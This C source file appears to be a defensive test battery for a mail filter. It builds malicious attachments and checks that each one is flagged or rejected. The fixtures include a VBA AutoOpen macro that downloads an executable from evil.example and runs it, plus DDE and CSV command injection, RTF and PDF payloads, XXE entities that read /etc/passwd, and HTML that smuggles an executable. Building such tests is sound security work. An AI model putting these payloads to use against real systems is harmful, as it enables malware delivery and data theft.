/* T050 to T063: documents that carry programs. */
#include "battery/fixture.h"

#define QUAR_OR_REJECT (BATTERY_QUARANTINE | BATTERY_REJECT)
#define FLAG_OR_MORE (BATTERY_FLAG | QUAR_OR_REJECT)

#define DOC "application/msword"
#define DOCX "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
#define XLSX "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#define OCTETS "application/octet-stream"

static const char hello[] =
	"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nMsgBox \"Bonjour\"\r\nEnd Sub\r\n";
static const char computes[] = "Attribute VB_Name = \"Module1\"\r\nFunction Somme(a, b)\r\nSomme = "
			       "a + b\r\nEnd Function\r\n";
static const char loader[] =
	"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
	"u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & \"://evil.example/a\"\r\n"
	"Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", u, False\r\nx.Send\r\n"
	"Set s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\"\r\n"
	"Shell Environ(\"TEMP\") & \"\\a.exe\"\r\nEnd Sub\r\n";

static void macro(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "lettre.docm", fixture_docx(k, "", "", str_c(hello)));
	kit_send_attached(k, "b", DOCX, "lettre.docx", fixture_docx(k, "", "", str_c(hello)));
	kit_send_attached(k, "c", DOC, "lettre.doc", fixture_doc(k, STR("Bonjour"), str_c(hello)));
	kit_send_attached(
		k, "d", OCTETS, "tableau.xlsm",
		fixture_xlsx(k, "xl/worksheets/sheet1.xml", "<worksheet/>", str_c(hello)));
	kit_send_attached(k, "e1", OCTETS, "diapos.ppt", fixture_ppt_macro(k, str_c(hello)));
	kit_send_attached(k, "e2", OCTETS, "diapos.pptm", fixture_pptm(k, str_c(hello)));
	kit_expect(k, FLAG_OR_MORE, NULL);
	kit_send_attached(
		k, "f", OCTETS, "calcul.xlsm",
		fixture_xlsx(k, "xl/worksheets/sheet1.xml", "<worksheet/>", str_c(computes)));
}

static void loader_macro(struct kit *k)
{
	const str padded[] = { str_c(loader),
			       kit_repeat(k, STR("' remarque sans effet\r\n"), 17000) };

	kit_send_attached(k, "a", DOC, "facture.doc",
			  fixture_doc(k, STR("Bonjour"), str_c(loader)));
	kit_send_attached(k, "b", DOC, "facture.doc",
			  fixture_doc(k, STR("Bonjour"), kit_join(k, padded, 2)));
}

static void xlm(struct kit *k)
{
	kit_send_attached(k, "a", "application/vnd.ms-excel", "tableau.xls", fixture_xls_macro(k));
	kit_send_attached(k, "c", OCTETS, "tableau.xlsb", fixture_xlsb_macro(k));
	kit_send_attached(
		k, "b", OCTETS, "tableau.xlsm",
		fixture_xlsx(
			k, "xl/macrosheets/sheet1.xml",
			"<xm:macrosheet "
			"xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" "
			"xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/"
			"main\"><sheetData><row "
			"r=\"1\"><c "
			"r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>",
			STR("")));
}

static void dde(struct kit *k)
{
	const str field =
		STR("\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14"
		    "x\x15");

	kit_send_attached(k, "a", DOC, "lettre.doc", fixture_doc(k, field, STR("")));
	kit_send_attached(
		k, "b", DOCX, "lettre.docx",
		fixture_docx(k,
			     "<w:p><w:r><w:fldChar "
			     "w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEA</w:instrText>"
			     "</w:r><w:r><w:instrText>UTO "
			     "c:\\\\windows\\\\system32\\\\</w:instrText></w:r><w:r>"
			     "<w:instrText>cmd.exe</w:instrText></w:r><w:r><w:fldChar "
			     "w:fldCharType=\"end\"/></w:r></w:p>",
			     "", STR("")));
	kit_expect(k, FLAG_OR_MORE, NULL);
	kit_send_attached(k, "c", "text/csv", "tableau.csv",
			  STR("a;b\r\n=cmd|' /C calc'!A0;2\r\n"));
	kit_send_attached(k, "d", OCTETS, "tableau.slk",
			  STR("ID;P\r\nC;X1;Y1;K0;Ecmd|' /C calc'!A0\r\nE\r\n"));
}

static str pptx(struct kit *k, enum fixture_format format)
{
	const struct fixture_member m[] = {
		{ "[Content_Types].xml",
		  STR("<?xml version=\"1.0\"?><Types "
		      "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		      "<Override PartName=\"/ppt/presentation.xml\" "
		      "ContentType=\"application/vnd.openxmlformats-officedocument."
		      "presentationml.presentation.main+xml\"/></Types>") },
		{ "ppt/presentation.xml", STR("<?xml version=\"1.0\"?><p:presentation "
					      "xmlns:p=\"http://schemas.openxmlformats.org/"
					      "presentationml/2006/main\"/>") },
		{ "ppt/slides/slide1.xml",
		  STR("<?xml version=\"1.0\"?><p:sld "
		      "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
		      "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
		      "xmlns:r=\"http://schemas."
		      "openxmlformats.org/officeDocument/2006/relationships\"><a:hlinkMouseOver "
		      "r:id=\"rId2\" "
		      "action=\"ppaction://program\"/></p:sld>") },
		{ "ppt/slides/_rels/slide1.xml.rels",
		  STR("<?xml version=\"1.0\"?><Relationships "
		      "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		      "<Relationship Id=\"rId2\" "
		      "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
		      "hyperlink\""
		      " Target=\"file:///c:/windows/system32/calc.exe\" "
		      "TargetMode=\"External\"/></Relationships>") },
	};

	return fixture_archive(k, format, m, ARRAY_LEN(m));
}

static void ppaction(struct kit *k)
{
	kit_send_attached(k, "a", OCTETS, "diapos.pptx", pptx(k, FIXTURE_ZIP_STORED));
	kit_send_attached(k, "b", OCTETS, "diapos.pptx", pptx(k, FIXTURE_ZIP));
	kit_send_attached(k, "c", "application/vnd.ms-powerpoint", "diapos.ppt",
			  fixture_ppt_action(k));
}

#define REL "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

static void external(struct kit *k)
{
	kit_send_attached(k, "a", DOCX, "lettre.docx",
			  fixture_docx(k, "",
				       "<Relationship Id=\"rId2\" Type=\"" REL
				       "attachedTemplate\" Target=\"http://evil.example/t.dotm\" "
				       "TargetMode=\"External\"/>",
				       STR("")));
	kit_send_attached(k, "c", DOCX, "lettre.docx",
			  fixture_docx(k, "",
				       "<Relationship Id=\"rId2\" Type=\"" REL
				       "oleObject\" Target=\"http://evil.example/o.doc\" "
				       "TargetMode=\"External\"/>",
				       STR("")));
	kit_expect(k, FLAG_OR_MORE, NULL);
	kit_send_attached(k, "b", DOCX, "lettre.docx",
			  fixture_docx(k,
				       "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE "
				       "&quot;http://evil.example/a.png&quot; \\d \"/></w:p>",
				       "", STR("")));
	kit_expect(k, FLAG_OR_MORE, "OFFICE_WEBSERVICE");
	kit_send_attached(
		k, "d", OCTETS, "tableau.xlsx",
		fixture_xlsx(k, "xl/worksheets/sheet1.xml",
			     "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/"
			     "2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE("
			     "\"http://labo.example/?q=\"&amp;B1)</f></c></row></sheetData>"
			     "</worksheet>",
			     STR("")));
}

static str package(struct kit *k)
{
	return fixture_package(k, "setup.exe", fixture_pe(k));
}

static void rtf_object(struct kit *k)
{
	kit_send_attached(k, "a", "application/rtf", "lettre.rtf",
			  fixture_rtf(k, "{\\rtf1", package(k), ""));
	kit_send_attached(k, "b", DOC, "lettre.doc", fixture_rtf(k, "{\\rtf1", package(k), ""));
	kit_send_attached(k, "d", "application/rtf", "lettre.rtf",
			  fixture_rtf(k, "{\\rtf1", package(k), " \\par\r\n{}"));
	kit_send_attached(k, "d2", "application/rtf", "lettre.rtf",
			  fixture_rtf(k, "{\\rtf1", package(k), "\\bin3 }}}"));
	kit_send_attached(
		k, "c", "application/rtf", "lettre.rtf",
		STR("{\\rtf1\\ansi Bonjour\\par {\\object\\objemb{\\*\\objclass Package}}}"));
}

/* Hexadecimal digits of the object in small and capital letters in turn. */
static str mixed_case(struct kit *k, str rtf)
{
	struct strbuf b = strbuf_make(k->arena, rtf.n);
	size_t object = str_find(rtf, STR("objdata ")) + 8;

	for (size_t i = 0; i < rtf.n; i++) {
		char c = rtf.p[i];

		strbuf_char(&b, i >= object && i % 2 && c >= 'a' && c <= 'f' ? (char)(c - 32) : c);
	}
	return strbuf_str(&b);
}

static void rtf_program(struct kit *k)
{
	kit_send_attached(k, "a", "application/rtf", "lettre.rtf",
			  fixture_rtf(k, "{\\rtf1", fixture_pe(k), ""));
	kit_send_attached(k, "b", "application/rtf", "lettre.rtf",
			  mixed_case(k, fixture_rtf(k, "{\\rtf1", fixture_pe(k), "")));
	kit_send_attached(k, "c", "application/rtf", "lettre.rtf",
			  fixture_rtf(k, "{\\rtf1", kit_repeat(k, STR("\x90"), 40), ""));
}

static void rtf_header(struct kit *k)
{
	kit_send_attached(k, "a", DOC, "lettre.doc", fixture_rtf(k, "{\\rt0", package(k), ""));
	kit_send_attached(k, "b", DOC, "lettre.doc",
			  fixture_rtf(k, "{\\rtf{\\*\\x}", package(k), ""));
	kit_send_attached(k, "c", DOC, "lettre.doc", fixture_rtf(k, "xyz{\\rtf1", package(k), ""));
}

static void send_pdf(struct kit *k, const char *variant, const char *catalog, const str *objects,
		     size_t n)
{
	kit_send_attached(k, variant, "application/pdf", "facture.pdf",
			  fixture_pdf(k, catalog, objects, n));
}

static void pdf_script(struct kit *k)
{
	const str clear = STR("<</S/JavaScript/JS(eval\\(String.fromCharCode\\(97,108\\)\\))>>");
	const str hex = STR("<</S/J#61vaScript/JS(app.alert\\(1\\))>>");
	const str in_stream = fixture_pdf_stream(k, "/Type/ObjStm/N 1/First 4",
						 STR("9 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"));

	send_pdf(k, "a", "/OpenAction 4 0 R", &clear, 1);
	send_pdf(k, "b", "/OpenAction 9 0 R", &in_stream, 1);
	send_pdf(k, "c", "/AA<</WC 4 0 R>>", &clear, 1);
	send_pdf(k, "d", "/OpenAction 4 0 R", &hex, 1);
}

static void pdf_files(struct kit *k)
{
	const str embedded[] = { fixture_pdf_stream(k, "/Type/EmbeddedFile", fixture_pe(k)),
				 STR("<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>") };
	const str export = STR(
		"<</S/JavaScript/JS(this.exportDataObject\\({cName:\"a.docm\",nLaunch:2}\\))>>");
	const str launch = STR("<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>");

	send_pdf(k, "a", "/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>", embedded, 2);
	send_pdf(k, "b", "/OpenAction 4 0 R", &export, 1);
	send_pdf(k, "c", "/OpenAction 4 0 R", &launch, 1);
}

static void pdf_others(struct kit *k)
{
	const str xfa = fixture_pdf_stream(
		k, "",
		STR("<xdp:xdp "
		    "xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event><script "
		    "contentType=\"application/x-javascript\">app.alert(1)</script></event></"
		    "subform>"
		    "</template></xdp:xdp>"));
	const str uri = STR("<</S/URI/URI(http://evil.example/)>>");

	send_pdf(k, "a", "/AcroForm<</XFA 4 0 R/Fields[]>>", &xfa, 1);
	kit_send_attached(k, "c", "application/pdf", "facture.pdf",
			  STR("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 "
			      "obj<</S/JavaScript/JS"
			      "(app.alert\\(1\\))>>endobj\n"));
	kit_expect(k, FLAG_OR_MORE, NULL);
	send_pdf(k, "b", "/OpenAction 4 0 R", &uri, 1);
}

static const char xxe_text[] = "<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "
			       "\"file:///etc/passwd\">]>\n<a>&x;</a>\n";

static str xxe_docx(struct kit *k)
{
	const struct fixture_member m[] = {
		{ "[Content_Types].xml",
		  STR("<?xml version=\"1.0\"?><Types "
		      "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		      "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
		      "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
		      "</Types>") },
		{ "word/document.xml",
		  STR("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM "
		      "\"file:///etc/passwd\">]><w:document "
		      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
		      "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>") },
	};

	return fixture_archive(k, FIXTURE_ZIP, m, ARRAY_LEN(m));
}

static void xxe(struct kit *k)
{
	kit_send_attached(k, "a", "text/xml", "a.xml", str_c(xxe_text));
	kit_send_attached(k, "b", "text/xml", "a.xml",
			  STR("<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY % p SYSTEM "
			      "\"http://evil.example/a.dtd\"> %p;]>\n<a/>\n"));
	kit_send_attached(k, "c", "text/xml", "a.xml",
			  STR("<?xml version=\"1.0\"?>\n<!DOCTYPE soap [<!ENTITY x PUBLIC \"a\" "
			      "\"http://evil.example/x\">]>\n"
			      "<soap:Envelope "
			      "xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/"
			      "\"><soap:Body>&x;</soap:Body>"
			      "</soap:Envelope>\n"));
	kit_send_attached(k, "d", "text/xml", "a.xml", kit_utf16(k, str_c(xxe_text), false, true));
	kit_send_attached(k, "e", DOCX, "lettre.docx", xxe_docx(k));
	kit_expect(k, QUAR_OR_REJECT, NULL);
	kit_send_attached(
		k, "f", "image/svg+xml", "a.svg",
		STR("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "
		    "\"file:///etc/passwd\">]>\n"
		    "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>\n"));
}

static void html_script(struct kit *k)
{
	str b64 = kit_base64(k, fixture_pe(k));
	struct strbuf one_line = strbuf_make(k->arena, b64.n);

	for (size_t i = 0; i < b64.n; i++) {
		if (!str_is_space(b64.p[i]))
			strbuf_char(&one_line, b64.p[i]);
	}
	kit_send_attached(
		k, "a", "text/html", "facture.html",
		STR("<html><script>eval(unescape('%61%6c%65%72%74%28%31%29'))</script></html>"));
	kit_send_attached(k, "b", "text/html", "facture.html",
			  STR("<HTML LANG=fr><SCRIPT "
			      "TYPE=\"text/javascript\">eval(unescape('%61'))</SCRIPT></HTML>"));
	kit_send_attached(k, "c", "text/html", "facture.html",
			  STR("<html><script language=\"vbscript\">Set x = "
			      "CreateObject(\"WScript.Shell\")</script>"
			      "<script>new ActiveXObject('WScript.Shell')</script></html>"));
	kit_send_attached(k, "d", "text/html", "facture.html",
			  kit_fmt(k,
				  "<html><body><script>var d=atob('%.*s');var "
				  "a=document.createElement('a');var u=new Uint8Array("
				  "d.length);for(var "
				  "i=0;i<d.length;i++)u[i]=d.charCodeAt(i);a.href=URL."
				  "createObjectURL(new Blob([u]"
				  "));a.download='setup.exe';a.click();</script></body></html>",
				  STR_ARG(strbuf_str(&one_line))));
	kit_expect(k, QUAR_OR_REJECT, NULL);
	kit_send_attached(
		k, "e", "image/svg+xml", "image.svg",
		STR("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"));
	kit_send_attached(k, "e2", "text/html", "page.shtml",
			  STR("<html><body><script>document.write(unescape('%61'))</script>"
			      "</body></html>"));
}

#define ROW(id, what, make)                                                                        \
	{                                                                                          \
		id, "document", what, BATTERY_REJECT, NULL, make, false                            \
	}

const struct battery_case cases_document[] = {
	ROW("T050", "Macros in Office documents", macro),
	ROW("T051", "Macros that load and start programs", loader_macro),
	ROW("T052", "Excel 4.0 macros", xlm),
	ROW("T053", "DDE", dde),
	ROW("T054", "Actions in presentations", ppaction),
	ROW("T055", "External templates", external),
	ROW("T056", "RTF with objects", rtf_object),
	ROW("T057", "RTF with programs in hexadecimal", rtf_program),
	ROW("T058", "RTF with an odd header", rtf_header),
	ROW("T059", "PDF with JavaScript", pdf_script),
	ROW("T060", "PDF with files and launch actions", pdf_files),
	ROW("T061", "PDF with forms, links on opening, no structure", pdf_others),
	ROW("T062", "XML with external entities", xxe),
	ROW("T063", "HTML attachments with scripts", html_script),
	{ 0 }
};
